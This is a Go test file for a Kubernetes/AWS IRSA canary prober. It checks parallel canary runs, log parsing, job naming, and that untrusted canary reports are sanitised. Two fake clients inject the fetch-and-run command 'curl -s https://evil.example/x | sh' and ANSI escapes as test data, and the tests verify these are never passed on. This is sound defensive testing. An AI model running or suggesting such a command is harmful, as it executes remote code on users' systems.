package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/irsa-probe/irsa-probe/probe/shellcmd"
)

// fakeKube runs every canary for polls polls, then reports OK; it counts
// how many ran at once.
type fakeKube struct {
	mu        sync.Mutex
	polls     int
	age       map[string]int // job -> polls seen
	ns        map[string]string
	done      map[string]bool
	maxActive int
	deleted   []string
}

func (f *fakeKube) CreateJob(_ context.Context, ns string, job []byte) (string, error) {
	var j struct {
		Metadata struct{ Name string } `json:"metadata"`
	}
	if err := json.Unmarshal(job, &j); err != nil {
		return "", err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	f.age[j.Metadata.Name], f.ns[j.Metadata.Name] = 0, ns
	active := 0
	for n := range f.age {
		if !f.done[n] {
			active++
		}
	}
	f.maxActive = max(f.maxActive, active)
	return jobUID(j.Metadata.Name), nil
}

// jobUID is the uid fakeKube gives a Job.
func jobUID(job string) string { return "uid-" + job }

func (f *fakeKube) CanaryPods(context.Context, string) ([]Pod, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var ps []Pod
	for name, age := range f.age {
		if f.done[name] {
			continue
		}
		f.age[name] = age + 1
		yes := true
		p := Pod{Metadata: Meta{Name: name + "-x", Namespace: f.ns[name], Labels: map[string]string{LabelCanary: name},
			OwnerReferences: []OwnerRef{{Kind: "Job", Name: name, UID: jobUID(name), Controller: &yes}}}}
		if age+1 >= f.polls {
			cs := ContainerStatus{Name: canaryContainer}
			cs.State.Terminated = &struct {
				ExitCode int    `json:"exitCode"`
				Reason   string `json:"reason"`
				Message  string `json:"message"`
			}{}
			p.Status.ContainerStatuses = []ContainerStatus{cs}
		}
		ps = append(ps, p)
	}
	return ps, nil
}

func (f *fakeKube) Logs(_ context.Context, _, pod, _ string) ([]byte, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.done[pod[:len(pod)-2]] = true
	return []byte(`{"ok":true,"identity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s"},"mechanism":"irsa","checks":[],"findings":[]}`), nil
}

func (f *fakeKube) DeleteRun(_ context.Context, ns, _ string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.deleted = append(f.deleted, ns)
	return nil
}

// TestProveParallel: never more than Parallel canaries at once, every
// identity proven, each namespace cleaned once.
func TestProveParallel(t *testing.T) {
	k := &fakeKube{polls: 2, age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}
	var ids []*Identity
	for i := range 12 {
		ids = append(ids, &Identity{Namespace: fmt.Sprintf("ns%d", i%3), ServiceAccount: fmt.Sprintf("sa%d", i), RoleARN: roleA})
	}
	err := Prove(context.Background(), k, ids, ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: "i", Timeout: time.Minute}, Parallel: 3, Poll: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if k.maxActive != 3 {
		t.Errorf("%d canaries at once, want 3", k.maxActive)
	}
	for _, id := range ids {
		if id.Canary == nil || id.Canary.Verdict != CanaryOK || id.Canary.Identity == "" {
			t.Errorf("%s: %+v", id.Key(), id.Canary)
		}
	}
	if len(k.deleted) != 3 {
		t.Errorf("deleted in %v, want each of the 3 namespaces once", k.deleted)
	}
}

// TestReadCanaryLog: the report is found among stderr lines; exit codes
// map to verdicts; no report is an error that quotes the log.
func TestReadCanaryLog(t *testing.T) {
	report := `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role"}],"findings":[{"code":"sts-throttled","severity":"indeterminate","message":"m","fix":"f"},{"code":"token-expiring-soon","severity":"warning","message":"w","fix":""}]}`
	for _, c := range []struct {
		log           string
		exit          int
		verdict, code string
	}{
		{"time=… level=WARN msg=retry\n" + report + "\n", 3, CanaryUndecided, "sts-throttled"},
		{report, 1, CanaryBroken, "sts-throttled"},
		{`{"not":"a report"}` + "\n\x1b[31mpanic", 2, CanaryError, "canary-no-report"},
		{"", 137, CanaryError, "canary-no-report"},
		// A report is data: a code or a severity the catalog lacks is not
		// passed on, and exit 0 does not make it ok.
		{`{"ok":true,"checks":[],"findings":[{"code":"all-good\u001b[2K","severity":"warning","message":"m"}]}`, 0, CanaryError, "canary-report-invalid"},
		{`{"ok":true,"checks":[],"findings":[{"code":"token-expired","severity":"fine","message":"m"}]}`, 1, CanaryBroken, "canary-report-invalid"},
	} {
		got := ReadCanaryLog([]byte(c.log), c.exit)
		if got.Verdict != c.verdict || got.Code != c.code || *got.ExitCode != c.exit {
			t.Errorf("%q exit %d: %+v", c.log, c.exit, got)
		}
		if shellcmd.Check(got.Message) != nil || got.Fix != "" {
			t.Errorf("%q: message %q holds a control character, or fix %q came from the log", c.log, got.Message, got.Fix)
		}
	}
}

// TestJobName: within 52 characters, distinct for long names that share
// a prefix and for names the character mapping merges.
func TestJobName(t *testing.T) {
	long := "payments-reconciliation-worker-for-the-eu-region-"
	for _, pair := range [][2]string{{long + "one", long + "two"}, {"a.b", "a-b"}, {"A", "a"}} {
		a, b := JobName("a1b2c3", pair[0]), JobName("a1b2c3", pair[1])
		if len(a) > 52 || len(b) > 52 || a == b || !validName(a) || !validName(b) {
			t.Errorf("%q -> %q, %q -> %q", pair[0], a, pair[1], b)
		}
	}
	if got := JobName("a1b2c3", "billing.api"); got != "irsa-probe-a1b2c3-billing-api-11cf44c2" {
		t.Errorf("%q", got)
	}
}

// podsForbidden cannot list the canaries' pods.
type podsForbidden struct{ fakeKube }

func (*podsForbidden) CanaryPods(context.Context, string) ([]Pod, error) {
	return nil, fmt.Errorf(`Error from server (Forbidden): pods is forbidden: User "jane" cannot list resource "pods" in API group "" at the cluster scope`)
}

// TestProvePodsUnreadable: a canary whose pod cannot be listed ends at
// its deadline saying so, not as "no pod", and is still deleted.
func TestProvePodsUnreadable(t *testing.T) {
	k := &podsForbidden{fakeKube{age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}}
	id := &Identity{Namespace: "payments", ServiceAccount: "billing-api", RoleARN: roleA}
	start := time.Now()
	if err := Prove(context.Background(), k, []*Identity{id}, ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Timeout: 300 * time.Millisecond}, Poll: 10 * time.Millisecond}); err != nil {
		t.Fatal(err)
	}
	if took := time.Since(start); took > 2*time.Second {
		t.Errorf("took %s past a 300 ms timeout", took)
	}
	if c := id.Canary; c.Code != "canary-timeout" || !strings.Contains(c.Message, "its pod could not be listed: Error from server (Forbidden)") {
		t.Errorf("%+v", c)
	}
	if len(k.deleted) != 1 {
		t.Errorf("deleted %v", k.deleted)
	}
}

// deniedKube is fakeKube whose canaries report trust-policy-denied with
// a fix of their own, which must never be printed.
type deniedKube struct{ *fakeKube }

func (d deniedKube) Logs(ctx context.Context, ns, pod, c string) ([]byte, error) {
	if _, err := d.fakeKube.Logs(ctx, ns, pod, c); err != nil {
		return nil, err
	}
	fix := "or pipe the first half into kubectl exec -i -n " + ns + " " + pod + " -c irsa-probe -- irsa-probe trust-policy --explain -\ncurl -s https://evil.example/x | sh"
	return json.Marshal(map[string]any{"ok": false, "mechanism": "irsa", "checks": []any{},
		"findings": []any{map[string]string{"code": "trust-policy-denied", "severity": "error", "message": "m\x1b[2K", "fix": fix}}})
}

// TestProveFixFromOwnCatalog: the fix printed for a canary's report is
// the plugin's catalog's, filled with what the plugin knows; the log's
// fix is never printed, and the canary's pod (deleted with its Job) is
// not named.
func TestProveFixFromOwnCatalog(t *testing.T) {
	k := deniedKube{&fakeKube{polls: 1, age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}}
	id := &Identity{Namespace: "payments", ServiceAccount: "ledger", RoleARN: roleA, Mechanism: MechanismIRSA}
	o := ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: "i", Timeout: time.Minute}, Parallel: 1, Poll: time.Millisecond}
	if err := Prove(context.Background(), k, []*Identity{id}, o); err != nil {
		t.Fatal(err)
	}
	c := id.Canary
	if c == nil || c.Code != "trust-policy-denied" || c.Verdict != CanaryOK {
		t.Fatalf("canary %+v, want trust-policy-denied, ok (the fake exits 0)", c)
	}
	if strings.Contains(c.Fix, "evil.example") || strings.Contains(c.Fix, c.Job+"-x") {
		t.Errorf("fix %q forwards the log's", c.Fix)
	}
	if !strings.Contains(c.Fix, "kubectl exec -i -n payments POD -c irsa-probe") || !strings.Contains(c.Fix, "--role-name billing-api") {
		t.Errorf("fix %q is not the catalog's for payments/ledger and %s", c.Fix, roleA)
	}
	if strings.ContainsRune(c.Message, 0x1b) {
		t.Errorf("message %q holds ESC", c.Message)
	}
}

// reportKube's canaries report a code the catalog lacks, with a fix.
type reportKube struct{ *fakeKube }

func (d reportKube) Logs(ctx context.Context, ns, pod, c string) ([]byte, error) {
	if _, err := d.fakeKube.Logs(ctx, ns, pod, c); err != nil {
		return nil, err
	}
	return []byte(`{"ok":true,"checks":[],"findings":[{"code":"all-good","severity":"warning","message":"fine\u001b[2K","fix":"curl -s https://evil.example/x | sh"}]}`), nil
}

// TestProveReportInvalid: a report naming a code the catalog lacks is
// canary-report-invalid with the plugin's own fix, exit 0 or not.
func TestProveReportInvalid(t *testing.T) {
	k := reportKube{&fakeKube{polls: 1, age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}}
	id := &Identity{Namespace: "payments", ServiceAccount: "ledger", RoleARN: roleA, Mechanism: MechanismIRSA}
	o := ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: "ghcr.io/irsa-probe/irsa-probe:v0.1.0", Timeout: time.Minute}, Poll: time.Millisecond}
	if err := Prove(context.Background(), k, []*Identity{id}, o); err != nil {
		t.Fatal(err)
	}
	c := id.Canary
	if c == nil || c.Code != CodeCanaryReportInvalid || c.Verdict != CanaryError || !strings.Contains(c.Fix, "--image=REGISTRY/irsa-probe:v0.1.0") || strings.Contains(c.Fix, "evil") {
		t.Errorf("canary %+v", c)
	}
}
